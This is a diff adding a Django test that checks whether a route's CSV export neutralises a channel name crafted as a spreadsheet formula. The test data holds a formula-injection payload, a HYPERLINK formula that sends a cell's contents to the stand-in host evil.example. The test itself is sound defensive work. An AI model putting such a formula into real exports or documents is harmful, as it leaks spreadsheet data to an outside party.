@@ -281,3 +281,15 @@ def test_a_canary_on_a_route_without_an_autopilot_set_is_not_held(world):
     route = canary.canary_start(route=world["route"], channel=world["cheap"])
     route.refresh_from_db()
     assert route.canary_hold == "" and not EvalRun.objects.filter(state="pending").exists()
+
+
+def test_the_csv_export_neutralises_a_candidate_name_a_spreadsheet_would_run_as_a_formula(client, world):
+    import csv
+
+    Channel.objects.filter(pk=world["cheap"].pk).update(name='=HYPERLINK("https://evil.example/?x="&A1,"open")')
+    client.force_login(world["vera"])
+    rows = list(csv.DictReader(client.get(reverse("route_autopilot_csv", args=[world["route"].pk]))
+                               .content.decode().splitlines()))
+    [row] = [row for row in rows if "HYPERLINK" in row["candidate"]]
+    assert row["candidate"] == "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")"
+    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
